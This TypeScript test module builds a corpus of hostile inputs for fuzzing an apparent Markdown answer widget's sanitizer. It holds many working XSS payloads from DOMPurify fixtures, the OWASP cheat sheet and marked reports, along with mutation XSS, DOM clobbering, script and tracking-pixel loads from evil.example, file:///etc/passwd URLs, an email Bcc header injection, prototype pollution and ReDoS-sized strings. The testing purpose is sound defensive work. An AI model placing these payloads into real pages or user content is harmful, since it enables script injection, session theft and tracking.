import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { createRng } from '../support/prng.js';

/**
 * The hostile content corpus: strings (and a few wrong-typed values) placed in the answer
 * Markdown or in one Source field. Drawn from DOMPurify's test-fixture categories, the OWASP
 * XSS filter evasion cheat sheet, marked's past XSS and ReDoS reports, mutation XSS, DOM
 * clobbering, URL scheme tricks, tracking images, bidirectional overrides and pathological
 * sizes, plus every entry of the shared test vectors (fixtures/shared-vectors.json).
 */

/** Where a payload goes. */
export type PayloadField = 'answer' | 'url' | 'title' | 'snippet' | 'app_name' | 'author.name' | 'author.email' | 'author.photo' | 'modified_time' | 'source';

export interface Payload {
  /** Stable id, also used to route the hostile upstream's answer. */
  id: string;
  category: string;
  field: PayloadField;
  value: unknown;
  /**
   * Markdown rules swallow what follows this payload (an unclosed raw HTML block such as
   * `<textarea>`), so the sentinel after it is legitimately dropped; the one before it must show.
   */
  swallowsRest?: boolean;
}

const TEXT_FIELDS: PayloadField[] = ['title', 'snippet', 'app_name', 'author.name'];

/** Script in these payloads calls `alert` or `__xss`; both are instrumented on the page. */
const answerMarkdown: Record<string, string[]> = {
  'dompurify-fixtures': [
    '<a href="javascript:alert(1)">link</a>',
    '<a href="  javascript:alert(1)">link</a>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
    '<math><a xlink:href="javascript:alert(1)">math link</a></math>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror=__xss(1)></video>',
    '<audio src=x onerror=alert(1)></audio>',
    '<body onload=alert(1)>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<template><img src=x onerror=alert(1)></template>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    '<a href="&#x6A;avascript:alert(1)">hex entity</a>',
    '<a href="java&#0000010;script:alert(1)">padded entity</a>',
    '<div onclick=alert(1) onmouseover=alert(1)>hover me</div>',
    '<a href="#" onclick="alert(1)">click</a>',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '<marquee onstart=alert(1)>scroll</marquee>',
    '<button formaction=javascript:alert(1)>b</button>',
    '<isindex action=javascript:alert(1) type=image>',
    '<math><mi xlink:href="data:x,<script>alert(4)</script>">math</mi></math>',
    '<a href="javascript:alert(1)" target="_self">self</a>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
  ],
  'owasp-cheat-sheet': [
    '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
    '<IMG SRC="javascript:alert(\'XSS\');">',
    '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
    '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    '<IMG SRC="jav\tascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
    '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<iframe src=https://evil.example/scriptlet.html <',
    '</script><script>alert(\'XSS\');</script>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
    '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
    '<svg/onload=alert(\'XSS\')>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
    '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TR><TD>t</TD></TR></TABLE>',
    '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">div</DIV>',
    '<DIV STYLE="width: expression(alert(\'XSS\'));">expr</DIV>',
    '<BASE HREF="javascript:alert(\'XSS\');//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml">',
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
    '\\";alert(\'XSS\');//',
    '<IMG SRC="javascript:alert(\'XSS\')"',
  ],
  'marked-reports': [
    '[xss](javascript&#58;alert(1))',
    '[xss](javascript&#x3a;alert(1))',
    '[xss](&#106;avascript:alert(1))',
    '[xss](javascript:alert&#40;1&#41;)',
    '[xss](jav&#x0A;ascript:alert(1))',
    '[xss](jav&#x09;ascript:alert(1))',
    '[xss](javas%26%2399;ript:alert(1))',
    '[xss](vbscript:msgbox(1))',
    '[xss](VBScript:msgbox(1))',
    '[xss](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '![x](x" onerror="alert(1))',
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    '[x](javascript\\:alert(1))',
    '[x]( javascript:alert(1) "t")',
    '[![img](x)](javascript:alert(1))',
    '[ref]\n\n[ref]: <javascript:alert(1)> "t"',
    '[x](\tjavascript:alert(1))',
    '<javascript:alert(1)>',
    '<JAVASCRIPT:alert(1)>',
    '<vbscript:msgbox(1)>',
    '<data:text/html,alert(1)>',
    'www.example.com/"onmouseover="alert(1)',
    'https://ok.example/<img src=x onerror=alert(1)>',
    '[x](<javascript:alert(1)> "t")',
    '[xss](javascript://%0aalert(1))',
    '[a](javascript:/**/alert(1))',
    '[x](  \u0001javascript:alert(1))',
    '[x](java\u0000script:alert(1))',
    '**bold <img src=x onerror=alert(1)>**',
    '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
    '> <img src=x onerror=alert(1)>',
    '- item <svg onload=alert(1)>',
    '`<img src=x onerror=alert(1)>`',
    '~~~html\n<script>alert(1)</script>\n~~~',
    '[[1]](javascript:alert(1))',
    '[[1]](data:text/html,<script>alert(1)</script>)',
    '[[1]](https://ok.example/" onclick="alert(1))',
  ],
  'mutation-xss': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
    '<table><a href=x><img src=x onerror=alert(1)>',
    '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<?xml><img src=x onerror=alert(1)>',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)>">]]></svg>',
    '<math><style><img src=x onerror=alert(1)></style></math>',
    '<div><svg><p><style><img src=x onerror=alert(1)></style></p></svg></div>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="x" title="<!--<img src=x onerror=alert(1)>-->">x</a>',
  ],
  'dom-clobbering': [
    '<img name=getElementById><form name=body></form>',
    '<a id=defaultView></a><img name=cookie>',
    '<form id=x><input name=attributes></form>',
    '<a id=__proto__ name=__proto__>p</a>',
    '<img name=customElements id=customElements>',
    '<iframe name=window></iframe>',
    '<a name="fetch" id="alert">x</a>',
    '<form name=createElement></form><img name=documentElement>',
    '<img id=__xssFlag name=__xssFlag>',
    '<a id=bot-answer href=https://evil.example/>clobber</a>',
  ],
  'tracking-images': [
    '![t](https://evil.example/pixel.gif)',
    '![t](//evil.example/pixel.gif)',
    '<img src="https://evil.example/p.gif">',
    '<img srcset="https://evil.example/p.gif 1x">',
    '<picture><source srcset=https://evil.example/x.png><img src=x></picture>',
    '<video poster=https://evil.example/p.png></video>',
    '<link rel=prefetch href=https://evil.example/>',
    '<div style="background:url(https://evil.example/p.png)">bg</div>',
    '<svg><image href=https://evil.example/p.png /></svg>',
    '<a href=https://ok.example/ ping=https://evil.example/ping>ping</a>',
    '![t][img]\n\n[img]: https://evil.example/ref.png',
    '<style>@import url(https://evil.example/x.css);</style>',
    '<input type=image src=https://evil.example/p.png>',
  ],
  'layout-escapes': [
    '<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>',
    '<img width=5000 height=5000 src=x>',
    '<h1 style="font-size:500px;margin-left:-2000px">big</h1>',
    '<div popover=manual id=p>popover</div>',
    '<dialog open>dialog</dialog>',
    '<details open><summary>s</summary>details</details>',
    '<style>*{display:none}</style>',
    '<style>:host{position:fixed !important;inset:0}</style>',
    '<table>' + '<tr>' + '<td>cell</td>'.repeat(400) + '</tr></table>',
    'W'.repeat(5000),
    '<pre>' + 'wide '.repeat(2000).replace(/ /g, '\u00a0') + '</pre>',
    '<div class="bot-answer__panel" part="panel">fake part</div>',
  ],
  'bidi-and-unicode': [
    'invoice\u202Efdp.exe',
    '\u2067\u202Eevil\u202C\u2069 trailing',
    '\u202Dforced LTR \u202E forced RTL',
    'Z\u0351\u0307\u0308'.repeat(300),
    '\u0000null\u0001ctrl\u001Fbytes',
    'line\u2028separator\u2029paragraph',
    '\uFEFFbom in the middle\uFEFF',
    '\uD800 lone surrogate \uDFFF',
    '<!--?lit$1234$-->{{constructor.constructor(\'alert(1)\')()}} ${alert(1)} <%= alert(1) %>',
  ],
};

const urlTricks = [
  'javascript:alert(1)',
  'JavaScript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u0000javascript:alert(1)',
  'java\u0000script:alert(1)',
  'jav\nascript:alert(1)',
  'jav\r\nascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript://%0aalert(1)',
  'JAVASCRIPT:alert(1)',
  'DaTa:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'VBSCRIPT:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://ok.example/uuid',
  'ｊａｖａｓｃｒｉｐｔ:alert(1)',
  'https://ok.example/" onmouseover="alert(1)',
  'https://ok.example/\'><img src=x onerror=alert(1)>',
  'https://evil.example\u202E.com',
  '  https://ok.example/padded  ',
  'https://' + 'a'.repeat(20_000) + '.example/',
];

function fromSharedVectors(): Payload[] {
  const file = fileURLToPath(new URL('../fixtures/shared-vectors.json', import.meta.url));
  const vectors = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
  const out: Payload[] = [];
  const add = (field: PayloadField, values: unknown[], key: string) =>
    values.forEach((value, i) => out.push({ id: `shared-${key.replace(/[^a-z]+/gi, '_')}-${field}-${i}`, category: 'shared-vectors', field, value }));
  add('answer', vectors['answer_markdown'] as string[], 'answer');
  add('url', vectors['source.url'] as string[], 'url');
  add('author.photo', vectors['source.author.photo'] as string[], 'photo');
  for (const field of TEXT_FIELDS) add(field, vectors['source.title|snippet|app_name|author.name'] as string[], 'text');
  add('author.email', vectors['source.author.email'] as string[], 'email');
  add('modified_time', vectors['source.modified_time'] as unknown[], 'time');
  // The "generated" entries are descriptions; these are the inputs they describe.
  const huge = 'A'.repeat(100_000);
  out.push({ id: 'shared-generated-answer-A', category: 'shared-vectors', field: 'answer', value: huge });
  for (const field of [...TEXT_FIELDS, 'author.email', 'url'] as PayloadField[]) out.push({ id: `shared-generated-${field}-A`, category: 'shared-vectors', field, value: huge });
  out.push({ id: 'shared-generated-blockquote', category: 'shared-vectors', field: 'answer', value: '> '.repeat(2_000) + 'a' });
  out.push({ id: 'shared-generated-list', category: 'shared-vectors', field: 'answer', value: Array.from({ length: 1_000 }, (_, i) => '  '.repeat(i) + '- item').join('\n') });
  out.push({ id: 'shared-generated-underscores', category: 'shared-vectors', field: 'answer', value: '_a'.repeat(20_000) });
  out.push({ id: 'shared-generated-divs', category: 'shared-vectors', field: 'answer', value: '<div>'.repeat(10_000) });
  return out;
}

function pathological(): Payload[] {
  const values: string[] = [
    '['.repeat(50_000),
    '*'.repeat(100_000),
    '`'.repeat(50_000),
    '[x]: ' + ' '.repeat(20_000) + 'x ' + ' '.repeat(20_000) + 'x',
    '[x](' + '('.repeat(30_000),
    '<' + '-'.repeat(50_000),
    '| a '.repeat(3_000) + '|\n' + '|---'.repeat(3_000) + '|',
    '1. '.repeat(5_000) + 'x',
    '<span>'.repeat(5_000) + 'x' + '</span>'.repeat(5_000),
    '<svg>'.repeat(2_000) + '<img src=x onerror=alert(1)>',
    'x\n'.repeat(50_000),
    '[a](b)'.repeat(20_000),
    '\\'.repeat(100_000),
    '*a **b _c ~~d'.repeat(5_000),
    '&#x26;'.repeat(30_000),
    'x'.repeat(1_000_000),
  ];
  return values.map((value, i) => ({ id: `pathological-${i}`, category: 'huge-and-deep', field: 'answer', value }));
}

function sourceFieldPayloads(): Payload[] {
  const out: Payload[] = [];
  urlTricks.forEach((value, i) => out.push({ id: `url-trick-url-${i}`, category: 'url-schemes', field: 'url', value }));
  const photoTricks = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', '\u0001javascript:alert(1)', 'data:image/png;base64,iVBORw0KGgo=', 'DATA:image/svg+xml,<svg onload=alert(1)>', 'http://insecure.example/a.png', '//evil.example/a.png', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'x" onerror="alert(1)', 'https://ok.example/a.png" onerror="alert(1)'];
  photoTricks.forEach((value, i) => out.push({ id: `url-trick-photo-${i}`, category: 'url-schemes', field: 'author.photo', value }));
  const textAttacks = [
    '<svg onload=alert(1)>',
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '<a href="javascript:alert(1)">click</a>',
    '[md link](javascript:alert(1))',
    '**not bold** _not em_',
    '<!--?lit$1234$-->',
    '\u202Egnp.exe',
    '\u0000\u0001\u001F',
    'line one\nline two\r\nline three',
    '<style>*{display:none}</style>',
    '<div style="position:fixed;inset:0">x</div>',
  ];
  for (const field of TEXT_FIELDS) textAttacks.forEach((value, i) => out.push({ id: `text-${field}-${i}`, category: 'source-text', field, value }));
  const emails = ['javascript:alert(1)@x.co', 'mailto:x@y.co?body=<script>alert(1)</script>', 'x@y.co\r\nBcc: victim@z.co', '<img src=x onerror=alert(1)>@x.co', 'data:text/html,x@y.co'];
  emails.forEach((value, i) => out.push({ id: `email-${i}`, category: 'source-text', field: 'author.email', value }));
  const times: unknown[] = ['1730243482', 1e308, -1e308, 0.5, 8.64e15 + 1, {}, [], true, '<img src=x onerror=alert(1)>', 253402300800];
  times.forEach((value, i) => out.push({ id: `time-${i}`, category: 'source-types', field: 'modified_time', value }));
  // Whole-source type confusion and prototype pollution attempts.
  const wholeSources: unknown[] = [
    JSON.parse('{"__proto__": {"polluted": "yes", "innerHTML": "<img src=x onerror=alert(1)>"}, "title": "proto"}'),
    JSON.parse('{"author": {"__proto__": {"polluted": "yes"}}, "title": "author proto"}'),
    { title: ['<img src=x onerror=alert(1)>'], url: ['javascript:alert(1)'] },
    { title: { toString: 'x' }, author: '<img src=x onerror=alert(1)>' },
    '<img src=x onerror=alert(1)>',
    null,
    { constructor: { prototype: { polluted: 'yes' } }, title: 'constructor' },
    { url: 42, title: 42, snippet: false, app_name: null, author: [] },
  ];
  wholeSources.forEach((value, i) => out.push({ id: `source-shape-${i}`, category: 'source-types', field: 'source', value }));
  return out;
}

/** Random mixes of the corpus's fragments, seeded, so each run also tries payloads nobody wrote by hand. */
function fuzzed(count: number, seed: number): Payload[] {
  const rng = createRng(seed);
  const pieces = ['<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '[x](javascript:alert(1))', '<a href="java\tscript:alert(1)">', '</style>', '<style>', '<!--', '-->', '<math>', '<mglyph>', '<table>', '<noscript>', '</noscript>', '"', "'", '`', '\n\n', '\n', '> ', '- ', '```', '**', '_', '[', ']', '(', ')', '&#x6A;', '&colon;', '\u202E', '\u0000', 'javascript:', 'data:text/html,', '<a href="', '">', '<p title="', ' onerror=', 'alert(1)', ' src=x ', '<iframe ', '<object ', '<base href=//evil.example/>'];
  const out: Payload[] = [];
  for (let i = 0; i < count; i++) {
    const n = rng.int(3, 14);
    let value = '';
    for (let j = 0; j < n; j++) value += rng.pick(pieces);
    out.push({ id: `fuzz-${i}`, category: 'fuzzed', field: rng.chance(0.8) ? 'answer' : rng.pick(TEXT_FIELDS), value });
  }
  return out;
}

/** Marks payloads after which a spec-following Markdown parser legitimately drops the rest of the answer. */
function markSwallowers(payloads: Payload[]): Payload[] {
  // CommonMark HTML block type 1 (script, pre, style, textarea) runs to its close tag or the end of the document;
  // DOMPurify then drops script/style content, or the unclosed SVG/MathML keeps what follows inside foreign content.
  const unclosed = (s: string) => {
    for (const tag of ['script', 'pre', 'style', 'textarea', 'xmp', 'noscript', 'template', 'svg', 'math', 'iframe', 'select', 'title', 'noembed', 'noframes', 'object', 'video', 'audio', 'listing', 'plaintext']) {
      const opens = (s.match(new RegExp(`<${tag}[\\s>/]`, 'gi')) ?? []).length;
      const closes = (s.match(new RegExp(`</${tag}\\s*>`, 'gi')) ?? []).length;
      if (opens > closes) return true;
    }
    return /<!--(?![\s\S]*-->)|<!\[CDATA\[|<\?/.test(s) || /(^|\n)\s*(```|~~~)/.test(s);
  };
  return payloads.map((p) => (p.field === 'answer' && typeof p.value === 'string' && unclosed(p.value) ? { ...p, swallowsRest: true } : p));
}

/** The whole corpus for one run: fixed payloads plus `fuzzCount` seeded random ones. */
export function buildCorpus(fuzzCount: number, seed: number): Payload[] {
  const fixed: Payload[] = [];
  for (const [category, values] of Object.entries(answerMarkdown)) values.forEach((value, i) => fixed.push({ id: `${category}-${i}`, category, field: 'answer', value }));
  return markSwallowers([...fromSharedVectors(), ...fixed, ...pathological(), ...sourceFieldPayloads(), ...fuzzed(fuzzCount, seed)]);
}
